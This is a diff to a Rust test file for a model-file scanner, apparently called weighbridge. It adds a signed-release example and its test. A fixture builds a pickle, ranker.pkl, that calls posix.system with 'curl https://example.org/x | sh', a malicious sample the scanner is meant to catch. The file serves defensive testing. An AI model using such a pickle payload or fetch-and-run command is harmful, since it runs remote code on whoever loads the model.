@@ -4,7 +4,7 @@
 //! In a `console` block a line `$ COMMAND` is run by `sh`, `weighbridge` being the binary of the test. Below it stands what it prints,
 //! standard output first, and `# exit N` when it ends with N instead of 0. `$ cd FOLDER` holds for the rest of the page. There is no
 //! network to reach: the policies, models and archives all lie in the folder. Besides `sh` the pages use `cat`, `cp`, `echo`, `grep`,
-//! `mkdir`, `sed`, `sha256sum` and `tail`.
+//! `mkdir`, `openssl`, `sed`, `sha256sum` and `tail`.
 #![allow(
     clippy::unwrap_used,
     clippy::panic,
@@ -109,6 +109,7 @@ fn write_models() {
     let vocabulary = object("example_models.vocabulary", "Vocabulary");
     fresh("examples/org-policy/repository/models/tagger/vocabulary.pkl", &vocabulary);
 
+    fresh("examples/signed-release/tagger/weights.safetensors", &plain);
     fresh("examples/pull-request/models/tagger.safetensors", &plain);
     fresh("examples/pull-request/models/ranker.pkl", &command("posix", "system", "curl https://example.org/x | sh"));
 
@@ -250,6 +251,14 @@ fn pull_request_is_as_its_page_says() {
     page(
         "examples/pull-request",
         &["posix.system", "# exit 1", "::error file=models/ranker.pkl", "there is no token", "weighbridge: failed"],
+    );
+}
+
+#[test]
+fn signed_release_is_as_its_page_says() {
+    page(
+        "examples/signed-release",
+        &["the model is signed in", "WEIGHBRIDGE_PASSED", "refused[wrong-policy]", "refused[file-changed]", "# exit 1"],
     );
 }
 
